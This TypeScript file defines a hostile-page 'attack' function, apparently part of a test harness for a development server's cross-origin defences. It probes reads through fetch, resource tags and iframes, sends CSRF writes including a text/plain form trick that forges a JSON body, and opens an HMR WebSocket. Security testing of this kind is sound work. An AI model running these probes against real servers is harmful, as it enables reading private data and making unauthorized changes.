/** What a hostile page knows about its target. */
interface Victim {
  /** Origin of the development server. */
  origin: string;
  /** URLs that it tries to read, to load and to frame: of the screen, or of the site. */
  reads: string[];
  /** Where it sends its change, and the change. */
  update: string;
  body: string;
}

/**
 * Tries everything that a page can do to another origin. Runs in the hostile page and uses nothing outside of itself.
 * Related attempts run in parallel, as some end only by a timeout.
 * @returns everything that it could read, a line each
 */
export async function attack({ origin, reads, update, body }: Victim): Promise<string[]> {
  const TIMEOUT_MS = 3_000;
  const loot: string[] = [];
  const request = async (way: string, url: string, init: RequestInit) => {
    try {
      const response = await fetch(url, { ...init, signal: AbortSignal.timeout(TIMEOUT_MS) });
      const text = await response.text();
      if (text) loot.push(`${way} ${url}: ${response.status} ${text.slice(0, 60)}`);
    } catch {
      // Refused, or not in time.
    }
  };
  /** Resolves with the first of these events; undefined after the timeout. */
  const first = (target: EventTarget, ...types: string[]) =>
    new Promise<string | undefined>((done) => {
      for (const type of types) target.addEventListener(type, () => done(type));
      setTimeout(done, TIMEOUT_MS);
    });
  const add = <T extends keyof HTMLElementTagNameMap>(tag: T, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const load = async (tag: 'img' | 'script' | 'link' | 'video', attributes: Record<string, string>) => {
    const event = await first(add(tag, attributes), 'load', 'loadeddata', 'error');
    if (event && event !== 'error') loot.push(`<${tag}> ${Object.values(attributes).join(' ')}`);
  };
  /** Tries to read its text, as the screen can read that of a page. The test reads it from outside. */
  const frame = async (src: string) => {
    const element = add('iframe', { src });
    await first(element, 'load');
    try {
      loot.push(`<iframe> ${src}: ${element.contentWindow!.document.body.innerText}`);
    } catch {
      // Of another origin.
    }
  };
  /** Posts a form. Name, `=` and value of its field are JSON together. */
  const post = async () => {
    const target = add('iframe', { name: 'posted' });
    const form = add('form', { method: 'post', action: update, target: 'posted', enctype: 'text/plain' });
    const field = document.createElement('input');
    field.name = `${body.slice(0, -1)},"x":"`;
    field.value = '"}';
    form.append(field);
    form.submit();
    await first(target, 'load');
  };

  for (const url of reads)
    await Promise.all([
      request('fetch', url, {}),
      request('fetch with credentials', url, { credentials: 'include' }),
      request('fetch with a header', url, { headers: { 'x-edit-token': 'A', 'no-cors': '1' } }),
      load('img', { src: url }),
      load('script', { src: url }),
      load('script', { src: url, type: 'module' }),
      load('link', { href: url, rel: 'stylesheet' }),
      load('video', { src: url }),
      frame(url),
    ]);

  const types = ['text/plain', 'application/json', 'application/x-www-form-urlencoded', ''];
  await Promise.all([
    ...types.flatMap((type) =>
      (['cors', 'no-cors'] as const).map((mode) =>
        request('write', update, { method: 'POST', mode, body: new Blob([body], { type }) }),
      ),
    ),
    ...['PUT', 'DELETE', 'PATCH'].map((method) => request('write', update, { method, body })),
  ]);
  navigator.sendBeacon(update, body);
  await post();

  const socket = new WebSocket(`${origin.replace('http', 'ws')}/?token=A`, 'vite-hmr');
  if ((await first(socket, 'open', 'error')) === 'open') loot.push('socket');
  socket.close();
  return loot;
}
